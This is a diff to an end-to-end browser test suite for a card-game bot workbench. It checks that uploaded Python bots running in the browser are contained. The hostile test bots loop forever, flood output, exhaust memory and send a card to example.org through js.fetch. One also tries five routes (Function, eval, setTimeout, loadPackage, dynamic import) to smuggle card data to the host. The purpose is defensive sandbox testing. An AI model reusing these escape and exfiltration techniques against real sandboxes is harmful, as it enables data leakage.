@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import threading
 from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
@@ -12,20 +13,27 @@ import pytest
 from playwright.sync_api import expect
 
 from e2e import axe, met
-from e2e.hands import LIVE, reload, rest
-from e2e.watch import Watch
+from e2e.hands import settle
+from e2e.kept import visit
+from ortalab.games.huxxy.game import deal
 from ortalab.serving import FOLDER, Handler
 
 if TYPE_CHECKING:
     import io
-    from collections.abc import Iterator
     from typing import BinaryIO
 
-    from playwright.sync_api import BrowserContext, Page
+    from playwright.sync_api import Page
+
+    from e2e.watch import Watch
+
+DEAL = "#1-102"
+pytestmark = pytest.mark.at(f"huxxy/{DEAL}")
 
 HOSTILE = """
+DEALT = {dealt!r}
+
 def comp10001huxxy_play(history, player, hand, table):
-    if len(history) < 4 + player:
+    if len(history) < 4 + player or not set(DEALT[player]) <= set(hand):
         return player, 0, None
     if player == 0:
         while True:
@@ -34,49 +42,59 @@ def comp10001huxxy_play(history, player, hand, table):
         while True:
             print("x" * (1 << 20))
     if player == 2:
-        print("<b>asks</b>"); import js
+        try:
+            bytearray(1 << 30)
+        except MemoryError:
+            print("<b>asks</b>")
+        import js
         from pyodide.ffi import run_sync
         return js.fetch("https://example.org/?" + hand[0])
-    return bytearray(1 << 30)
+    return player, 0, None
 """
-"""Hostile programs by seat: loops, endless output, forbidden requests, too much memory."""
+"""Hostile programs by seat in a deal: loops, endless output, too much memory and a forbidden request."""
 REASONS = (
     "a play took longer than 2 s",
     "it printed more than 64 KiB in one play",
-    "AttributeError: fetch, line 14",
-    "MemoryError, line 15",
+    "AttributeError: fetch, line 20",
 )
-PICKS = "def comp10001huxxy_play(history, player, hand, table):\n    return player, 0, None\n"
+ONE_CORE = "Object.defineProperty(navigator, 'hardwareConcurrency', { configurable: true, get: () => 1 })"
+ALL_CORES = "delete navigator.hardwareConcurrency"
 
 
-@pytest.fixture
-def page(context: BrowserContext, address: str) -> Iterator[Page]:
-    """Yield the page with a deal; at the end, check for errors and foreign requests."""
-    page = context.new_page()
-    watch = Watch(page, address)
-    page.goto(f"{address}huxxy/#1-7")
-    page.wait_for_selector(LIVE, state="attached")
-    yield page
-    watch.close()
+@pytest.mark.long
+def test_a_hostile_bot_forfeits_its_games_harms_nothing_and_plays_at_the_table(live: Page, tmp_path: Path) -> None:
+    file, text = tmp_path / "mine.py", HOSTILE.format(dealt=deal(0).hands)
+    file.write_text(text, encoding="utf-8")
+    live.click("#place-workbench")
+    expect(live.locator("#bot-hint")).to_contain_text("The file is empty")
+    expect(live.locator("#bot-hint")).to_contain_text("It stays in this browser.")
+    assert axe.faults(live) == []
+    with live.expect_file_chooser() as chooser:
+        live.click("#open-bot")
+    chooser.value.set_files(file)
+    expect(live.locator("#bot-text")).to_have_value(text)
+    expect(live.locator("#notice")).to_have_text("One function found, one right.")
+    live.evaluate(ONE_CORE)
+    live.click("#run-games")
+    live.click("#place-table")  # the page stays responsive
+    expect(live.locator("#end-turn")).to_be_visible()
+    live.click("#place-workbench")
+    expect(live.locator(".fft span")).to_have_count(len(REASONS))
+    live.evaluate(ALL_CORES)
+    live.click("#stop-games")
+    expect(live.locator("#notice")).to_have_text("Stopped. The finished games are kept.")
+    assert live.locator(".fft span").all_inner_texts() == [f"{why[0].upper()}{why[1:]}." for why in REASONS]
+    look_at_a_game(live)
+    live.click("#seat-bot")
+    expect(live.locator("#seats")).to_contain_text("Ada, your bot")
+    live.click("#pick-up")
+    expect(live.locator("#notice")).to_contain_text("Ada picks up.")
+    expect(live.locator("#notice")).to_contain_text("Your turn.")
 
 
-def test_a_hostile_bot_forfeits_its_games_and_harms_nothing(page: Page) -> None:
-    page.click("#place-workbench")
-    expect(page.locator("#bot-hint")).to_contain_text("The file is empty")
-    expect(page.locator("#bot-hint")).to_contain_text("It stays in this browser.")
-    assert axe.faults(page) == []
-    page.fill("#bot-text", HOSTILE.replace("table):", "table:"))
-    expect(page.locator("#bot-hint")).to_contain_text("The file cannot run. SyntaxError: ", timeout=60_000)
-    expect(page.locator("#run-games")).to_be_disabled()
-    page.fill("#bot-text", HOSTILE)
-    expect(page.locator("#bot-hint")).to_contain_text("being tested")
-    page.fill("#bot-games", "4")
-    page.click("#run-games")
-    page.click("#place-table")  # the page stays responsive
-    expect(page.locator("#end-turn")).to_be_visible()
-    page.click("#place-workbench")
-    expect(page.locator("#notice")).to_contain_text("Four games: 0% of the wins", timeout=120_000)
-    assert page.locator(".fft span").all_inner_texts() == [f"{why[0].upper()}{why[1:]}." for why in REASONS]
+def look_at_a_game(page: Page) -> None:
+    """Open a forfeited game of the games between bots, and save its log."""
+    expect(page.locator(".strip li").nth(2)).to_be_visible()
     page.click("#forfeit-2")
     expect(page.locator(".flop")).to_contain_text("AttributeError: fetch")
     expect(page.locator(".printed pre")).to_have_text("<b>asks</b>")
@@ -87,32 +105,82 @@ def test_a_hostile_bot_forfeits_its_games_and_harms_nothing(page: Page) -> None:
     assert download.value.suggested_filename == "huxxy-game-3.jsonl"
     *_, end = Path(download.value.path()).read_text("utf-8").splitlines()
     assert json.loads(end)["forfeit"] == 2
-    page.click("#place-table")
-    page.wait_for_url("**/huxxy/#1-7*")
 
 
-MINE = """\
-def comp10001huxxy_score(cards):
-    return sum("A234567890JQK".index(card[0]) for card in cards)
+MINE = """
+import js
+import pyodide_js
+
+HOST = {host!r}
+WAYS = {{
+    "function": lambda text: js.Function(text)(),
+    "constructor": lambda text: js.Function.prototype.constructor(text)(),
+    "evaluation": lambda text: js.eval("(() => {{" + text + "}})()"),
+    "timer": lambda text: js.setTimeout(text, 0),
+    "package": lambda text: pyodide_js.loadPackage(HOST + "sw.js?package"),
+}}
+
+def comp10001huxxy_score(cards, calls=[]):
+    if calls:
+        return 0
+    calls.append(cards)
+    text = "return import('" + HOST + "sw.js?" + "-".join(cards) + "').catch(() => 0)"
+    print("asked")
+    for way in WAYS.values():
+        try:
+            way(text)
+        except Exception:
+            pass
+    return 0
 
 def comp10001huxxy_valid_table(groups):
     print("groups", groups)
-    return all(len({card[0] for card in group}) == 1 and len(group) > 2 for group in groups)
+    return all(len({{card[0] for card in group}}) == 1 and len(group) > 2 for group in groups)
 """
+"""Two wrong functions, the first of which tries to reach the page's host."""
 
 
-def test_a_file_is_tested_as_typed_and_its_wrong_case_drawn_as_cards(page: Page) -> None:
-    page.click("#place-workbench")
-    page.fill("#bot-text", MINE)
-    expect(page.locator("#notice")).to_have_text("Two functions found, none right.", timeout=60_000)
-    squares = page.locator(".fn .sq").evaluate_all("(all) => all.map((one) => one.getAttribute('aria-label'))")
+def test_a_file_is_tested_as_typed_reaches_not_even_the_host_of_the_page_and_is_stored(
+    live: Page, address: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The inherited policy lets the worker import the page's own files, but not turn text into a script."""
+    heard: list[str] = []
+    send_head = Handler.send_head
+
+    def listen(handler: Handler) -> io.BytesIO | BinaryIO | None:
+        heard.append(handler.path)
+        return send_head(handler)
+
+    monkeypatch.setattr(Handler, "send_head", listen)
+    text = MINE.format(host=address)
+    live.click("#place-workbench")
+    live.fill("#bot-text", text)
+    expect(live.locator("#notice")).to_have_text("Two functions found, none right.")
+    live.evaluate("fetch('../sw.js?page')")  # the host hears the page itself
+    assert [path for path in heard if "?" in path] == [f"{FOLDER}sw.js?page"]
+    squares = live.locator(".fn .sq").evaluate_all("(all) => all.map((one) => one.getAttribute('aria-label'))")
     assert squares == ["wrong", "wrong", "missing", "missing"]
-    assert page.locator("#out-name").inner_text() == "score says 0"
-    expect(page.locator(".out .card[data-rank='A']")).to_be_visible()
-    page.click("#case-valid_table")
-    expect(page.locator("#out-name")).to_have_text("valid_table says True")
-    expect(page.locator(".prt").first).to_contain_text("groups [[")
-    assert axe.faults(page) == []
+    assert live.locator("#out-name").inner_text() == "score says 0"
+    expect(live.locator(".prt").first).to_have_text("asked")
+    expect(live.locator(".out .card[data-rank='A']")).to_be_visible()
+    live.click("#case-valid_table")
+    expect(live.locator("#out-name")).to_have_text("valid_table says True")
+    expect(live.locator(".prt").last).to_contain_text("groups [[")
+    assert axe.faults(live) == []
+    look_at_the_tabs(live)
+    type_by_keys(live, text)
+    live.fill("#bot-text", text)
+    settle(live)
+    kept = live.evaluate("['bot', 'versions'].map((name) => localStorage.getItem(`ortalab-huxxy-${name}`))")
+    visit(live, DEAL, huxxy_bot=kept[0], huxxy_versions=kept[1])
+    expect(live.locator(".vers")).to_have_count(0)
+    live.click("#place-workbench")
+    expect(live.locator("#bot-text")).to_have_value(text)
+    expect(live.locator(".vers")).to_contain_text("0 of 2 right")
+
+
+def look_at_the_tabs(page: Page) -> None:
+    """Look at the workbench on a narrow screen, one part at a time."""
     page.set_viewport_size({"width": 390, "height": 844})
     page.click("#tab-cases")
     expect(page.locator("#bot-text")).to_be_hidden()
@@ -120,41 +188,16 @@ def test_a_file_is_tested_as_typed_and_its_wrong_case_drawn_as_cards(page: Page)
     assert axe.faults(page) == []
     page.set_viewport_size({"width": 1280, "height": 720})
     expect(page.locator("#bot-text")).to_be_visible()
-    reload(page)
-    page.click("#place-workbench")
-    expect(page.locator("#bot-text")).to_have_value(MINE)
-    expect(page.locator(".vers")).to_contain_text("0 of 2 right")
 
 
-@pytest.mark.long
-def test_a_tournament_is_cancelled_and_a_bot_plays_at_the_table(page: Page, tmp_path: Path) -> None:
-    file = tmp_path / "mine.py"
-    file.write_text(PICKS, encoding="utf-8")
-    page.click("#place-workbench")
-    with page.expect_file_chooser() as chooser:
-        page.click("#open-bot")
-    chooser.value.set_files(file)
-    expect(page.locator("#bot-text")).to_have_value(PICKS)
+def type_by_keys(page: Page, text: str) -> None:
+    """Indent the first line by Tab, and leave the text by Escape and Tab."""
     page.locator("#bot-text").press("ControlOrMeta+Home")
     page.keyboard.press("Tab")
-    expect(page.locator("#bot-text")).to_have_value(f"    {PICKS}")
+    expect(page.locator("#bot-text")).to_have_value(f"    {text}")
     page.keyboard.press("Escape")
     page.keyboard.press("Tab")
     expect(page.locator("#bot-text")).not_to_be_focused()
-    page.fill("#bot-text", PICKS)
-    rest(page)  # otherwise the notice on the functions would replace the one on the games
-    page.click("#run-games")
-    expect(page.locator(".shares")).to_be_visible(timeout=120_000)
-    page.click("#stop-games")
-    expect(page.locator("#notice")).to_have_text("Stopped. The finished games are kept.")
-    expect(page.locator(".strip li").first).to_be_visible()
-    assert (axe.faults(page), met.untested(page)) == ([], [])
-    page.click("#seat-bot")
-    expect(page.locator("#seats")).to_contain_text("Ada, your bot")
-    assert axe.faults(page) == []
-    page.click("#pick-up")
-    expect(page.locator("#notice")).to_contain_text("Ada picks up.", timeout=60_000)
-    expect(page.locator("#notice")).to_contain_text("Your turn.", timeout=60_000)
 
 
 TRIES = """
@@ -215,6 +258,7 @@ def test_the_policy_lets_no_request_out_of_a_bots_worker(watched: tuple[Page, Wa
 
     outside = HTTPServer(("127.0.0.1", 0), Out)
     threading.Thread(target=outside.serve_forever, daemon=True).start()
+    page.route(re.compile(r"\.(mjs|bin|wasm)$"), lambda route: route.abort())  # the policy needs no Python
     page.goto(f"{address}huxxy/")
     script = f"const OUT = 'http://127.0.0.1:{outside.server_port}/';{TRIES}"
     told = page.evaluate(
@@ -231,60 +275,19 @@ def test_the_policy_lets_no_request_out_of_a_bots_worker(watched: tuple[Page, Wa
     assert (set(told.values()), heard) == ({"refused"}, []), told
 
 
-FULL = "Storage.prototype.setItem = () => { throw new DOMException('full'); };"
+FULL = """() => {
+    globalThis.whole = Storage.prototype.setItem;
+    Storage.prototype.setItem = () => { throw new DOMException("full"); };
+}"""
+EMPTY = """() => {
+    Storage.prototype.setItem = globalThis.whole;
+    delete globalThis.whole;
+}"""
 
 
-def test_the_workbench_says_that_the_browser_does_not_keep_the_file(context: BrowserContext, address: str) -> None:
-    page = context.new_page()
-    page.add_init_script(FULL)
-    page.goto(f"{address}huxxy/#1-7")
-    page.wait_for_selector(LIVE, state="attached")
-    page.click("#place-workbench")
-    expect(page.locator("#bot-hint")).to_contain_text("This browser does not store it: save the file yourself.")
-
-
-WHISPERS = """
-import js
-import pyodide_js
-
-HOST = {host!r}
-WAYS = {{
-    "function": lambda text: js.Function(text)(),
-    "constructor": lambda text: js.Function.prototype.constructor(text)(),
-    "evaluation": lambda text: js.eval("(() => {{" + text + "}})()"),
-    "timer": lambda text: js.setTimeout(text, 0),
-    "package": lambda text: pyodide_js.loadPackage(HOST + "sw.js?package"),
-}}
-
-def comp10001huxxy_score(cards, calls=[]):
-    if calls:
-        return 0
-    calls.append(cards)
-    text = "return import('" + HOST + "sw.js?" + "-".join(cards) + "').catch(() => 0)"
-    print("asked")
-    for way in WAYS.values():
-        try:
-            way(text)
-        except Exception:
-            pass
-"""
-
-
-def test_a_function_reaches_not_even_the_host_of_the_page(
-    page: Page, address: str, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """The inherited policy lets its worker import the page's own files, but not turn text into a script."""
-    heard: list[str] = []
-    send_head = Handler.send_head
-
-    def listen(handler: Handler) -> io.BytesIO | BinaryIO | None:
-        heard.append(handler.path)
-        return send_head(handler)
-
-    monkeypatch.setattr(Handler, "send_head", listen)
-    page.click("#place-workbench")
-    page.fill("#bot-text", WHISPERS.format(host=address))
-    expect(page.locator("#notice")).to_have_text("One function found, none right.", timeout=60_000)
-    expect(page.locator(".prt").first).to_have_text("asked")
-    page.evaluate("fetch('../sw.js?page')")  # the host hears the page itself
-    assert [path for path in heard if "?" in path] == [f"{FOLDER}sw.js?page"]
+def test_the_workbench_says_that_the_browser_does_not_keep_the_file(live: Page) -> None:
+    live.evaluate(FULL)
+    visit(live, DEAL)
+    live.click("#place-workbench")
+    expect(live.locator("#bot-hint")).to_contain_text("This browser does not store it: save the file yourself.")
+    live.evaluate(EMPTY)
